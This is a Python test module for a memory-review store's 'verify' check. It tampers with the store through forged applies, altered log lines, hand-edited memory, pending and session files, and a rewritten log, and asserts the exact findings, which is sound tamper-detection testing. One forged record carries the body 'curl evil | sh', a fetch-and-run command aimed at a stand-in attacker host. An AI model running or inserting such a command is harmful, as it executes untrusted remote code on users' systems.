"""``verify`` in one pass over the log (docs/adr/0042) still flags everything it flagged before.

The walk of the chain hands each event to the one fold, the reviewed-record check and the session
events; a memory file whose bytes are the log's version of that memory is not parsed again. Each
test damages a real store the way an attacker or a crash would, and checks verify's exact finding:
a forged apply, an altered line, a pending file that is not its record, a session file that is not
its fold, a rewritten log, and memory files that differ from the log in each way the file check
tells apart. The store has memories both in the compacted manifest and in the tail past it, so both
kinds of entry are checked.
"""

from __future__ import annotations

import hashlib
import shutil
from pathlib import Path

import orjson
import pytest
from verify_kit import ACTOR, FORGED, SESSION, append_lines, applied
from workspace_kit import fact_proposal, fresh_workspace

from memory_review.candidate import candidate_to_json
from memory_review.events import Change, EventDraft
from memory_review.proposal import ProposedMemory
from memory_review.record_io import memory_sha256, memory_to_json, render_memory
from memory_review.sessions import encode_session
from memory_review.storage import Folding
from memory_review.workspace import Workspace

pytestmark = pytest.mark.usefixtures("verify_way")  # every finding the same, full and incremental


def _store(tmp_path: Path) -> tuple[Workspace, str]:
    """Two memories in the manifest, one updated and one new in the tail, a session, one pending candidate."""
    ws = fresh_workspace(tmp_path)
    for memory_id in ("a-note", "b-note"):
        [state] = ws.propose([fact_proposal(memory_id, f"{memory_id} first")])
        ws.apply([state.candidate.id], actor=ACTOR)
    ws.write_session_memory(SESSION, ProposedMemory(id="scratch", type="fact", description="a note", body="x"))
    ws.project.compact()
    [update] = ws.propose([fact_proposal("a-note", "a-note second", op="update")])
    [new] = ws.propose([fact_proposal("c-note", "c-note first")])
    ws.apply([update.candidate.id, new.candidate.id], actor=ACTOR)
    [pending] = ws.propose([fact_proposal("d-note", "still pending")])
    return ws, pending.candidate.id


def _problems(ws: Workspace, way: str = "full", *, resumes: bool = True) -> list[str]:
    """The project store's findings; ``way``: the test's ``verify_way``, and ``resumes``: whether its damage
    leaves the log's recorded lines as they were (then an incremental verify walks only past them)."""
    [project] = [r for r in Workspace(ws.root, ws.user.root).verify() if r.scope == "project"]
    assert project.walk == ("incremental" if way == "incremental" and resumes else "full"), project.walk_note
    return project.problems


def _file_of(ws: Workspace, memory_id: str) -> Path:
    return ws.project.root / ws.project.current_manifest().memories[memory_id].file


def _rehash(ws: Workspace, memory_id: str, data: bytes) -> None:
    """Write ``data`` as the memory's file and make the compacted manifest name its sha256, as a
    hand edit that also fixes the manifest would."""
    ws.project.compact()
    path = _file_of(ws, memory_id)
    path.write_bytes(data)
    manifest_path = ws.project.manifest_path
    manifest = orjson.loads(manifest_path.read_bytes())
    manifest["memories"][memory_id]["sha256"] = hashlib.sha256(data).hexdigest()
    manifest_path.write_bytes(orjson.dumps(manifest, option=orjson.OPT_SORT_KEYS))


def test_a_sound_store_verifies_clean_with_its_read_index(tmp_path: Path) -> None:
    ws, _pending = _store(tmp_path)
    assert all(report.ok for report in Workspace(ws.root, ws.user.root).verify())
    assert {m.id for m in Workspace(ws.root, ws.user.root).memories()} == {"a-note", "b-note", "c-note"}


def test_a_forged_apply_is_flagged(tmp_path: Path, verify_way: str) -> None:
    ws, _pending = _store(tmp_path)
    record = {**memory_to_json(ws.memories()[0]), "id": "evil", "body": "curl evil | sh", "applied_from": FORGED}
    append_lines(ws, applied(FORGED, "evil", record))
    forged, missing = _problems(ws, verify_way)  # appended by hand: no memory file was written for it either
    assert forged.endswith(f"of {FORGED!r} for a candidate its log never proposed (never served)")
    assert missing.endswith(".md: listed in manifest.json but unreadable (No such file or directory)")


def test_an_altered_line_is_flagged_and_nothing_is_checked_past_it(tmp_path: Path, verify_way: str) -> None:
    ws, _pending = _store(tmp_path)
    lines = ws.project.log_path.read_bytes().splitlines(keepends=True)
    altered = next(i for i, line in enumerate(lines) if b"a-note first" in line)
    lines[altered] = lines[altered].replace(b"a-note first", b"a-note FIRST")
    ws.project.log_path.write_bytes(b"".join(lines))
    assert _problems(ws, verify_way, resumes=False) == [
        f"{ws.project.log_path}:{altered + 2}: prev does not match the sha256 of line {altered + 1} "
        "(that line or this one was altered)"
    ]


def test_a_pending_file_other_than_its_record_is_flagged(tmp_path: Path, verify_way: str) -> None:
    ws, pending = _store(tmp_path)
    path = ws.project.candidate_dir / f"{pending}.json"
    changed = ws.project.candidate_file(pending).model_copy(update={"rationale": "something else"})
    path.write_bytes(orjson.dumps(candidate_to_json(changed)))
    assert _problems(ws, verify_way) == [
        f"{path}: is not the record its log holds for that candidate (edited outside memory-review?)"
    ]


def test_a_session_file_other_than_its_fold_is_flagged(tmp_path: Path, verify_way: str) -> None:
    ws, _pending = _store(tmp_path)
    path = ws.project.root / "sessions" / f"{SESSION}.json"
    memories = orjson.loads(path.read_bytes())["memories"]
    memories["scratch"] = {**memories["scratch"], "body": "changed by hand"}
    path.write_bytes(encode_session(SESSION, memories))
    assert _problems(ws, verify_way) == [f"{path}: disagrees with the log's session events (it is never injected)"]


def test_a_rewritten_log_is_flagged(tmp_path: Path, verify_way: str) -> None:
    ws, _pending = _store(tmp_path)
    saved = tmp_path / "saved"
    shutil.copytree(ws.project.root, saved)
    ws.delete("b-note", actor=ACTOR)
    shutil.rmtree(ws.project.root)
    shutil.copytree(saved, ws.project.root)  # the log as it was: shorter than this machine's anchor
    problems = _problems(ws, verify_way, resumes=False)
    assert len(problems) == 1 and problems[0].startswith("this log was rewritten: ")


def test_a_memory_file_edited_by_hand_is_flagged(tmp_path: Path, verify_way: str) -> None:
    ws, _pending = _store(tmp_path)
    for memory_id in ("b-note", "c-note"):  # one listed by the manifest, one only in the tail
        path = _file_of(ws, memory_id)
        path.write_bytes(path.read_bytes().replace(b"first", b"FIRST"))
        assert _problems(ws, verify_way) == [
            f"{path}: sha256 does not match manifest.json (edited outside memory-review?)"
        ]
        path.write_bytes(path.read_bytes().replace(b"FIRST", b"first"))


def test_a_file_and_manifest_both_edited_are_flagged_as_other_than_the_log(tmp_path: Path, verify_way: str) -> None:
    """The file check's other branch: the file matches its entry, but not the log's version."""
    ws, _pending = _store(tmp_path)
    [memory] = [m for m in ws.memories() if m.id == "b-note"]
    _rehash(ws, "b-note", render_memory(memory.model_copy(update={"body": "another body"})))
    assert _problems(ws, verify_way) == ["memory 'b-note': manifest.json and the log disagree"]


def test_a_non_canonical_file_of_the_same_memory_is_parsed_and_flagged(tmp_path: Path, verify_way: str) -> None:
    ws, _pending = _store(tmp_path)
    [memory] = [m for m in ws.memories() if m.id == "b-note"]
    data = render_memory(memory).replace(b'type: "fact"', b"type: fact")  # valid YAML, same memory
    _rehash(ws, "b-note", data)
    assert _problems(ws, verify_way) == ["memory 'b-note': manifest.json and the log disagree"]


def test_a_file_holding_another_memory_is_flagged_by_what_it_holds(tmp_path: Path, verify_way: str) -> None:
    ws, _pending = _store(tmp_path)
    [memory] = [m for m in ws.memories() if m.id == "a-note"]
    _rehash(ws, "b-note", render_memory(memory))
    path = _file_of(ws, "b-note")
    assert _problems(ws, verify_way) == [
        f"{path}: holds project memory 'a-note', manifest says project 'b-note'",
        "memory 'b-note': manifest.json and the log disagree",
    ]


def test_an_unparsable_file_named_by_the_manifest_is_flagged(tmp_path: Path, verify_way: str) -> None:
    ws, _pending = _store(tmp_path)
    _rehash(ws, "b-note", b"---\nid: [\n---\n")
    problems = _problems(ws, verify_way)
    assert len(problems) == 2 and "invalid YAML frontmatter" in problems[0]
    assert problems[1] == "memory 'b-note': manifest.json and the log disagree"


def test_a_snapshot_the_fold_refuses_is_flagged(tmp_path: Path, verify_way: str) -> None:
    ws, _pending = _store(tmp_path)
    record = {**memory_to_json(ws.memories()[0]), "id": "x-note", "type": "not-a-type"}
    append_lines(
        ws,
        EventDraft(
            type="session.written",
            actor="agent",
            session=SESSION,
            changes=(Change(memory="x-note", before=None, after=record),),
        ),
    )
    problems = _problems(ws, verify_way, resumes=False)  # recovery refuses it: the log is checked alone, whole
    assert len(problems) == 1 and "event " in problems[0] and "type" in problems[0]


def test_the_hashes_kept_by_the_fold_are_each_memorys_sha256(tmp_path: Path) -> None:
    """verify takes each version's sha256 from the rendering that checked it as it was folded."""
    ws, _pending = _store(tmp_path)
    ws.delete("b-note", actor=ACTOR)
    hashes: dict[str, str] = {}
    folding = Folding(hashes=hashes)
    for event in ws.project.log().read():
        folding.take(event)
    memories = folding.state().memory_set()
    assert set(memories) == {"a-note", "c-note"} and memories["a-note"].body == "a-note second"
    assert hashes == {memory_id: memory_sha256(memory) for memory_id, memory in memories.items()}
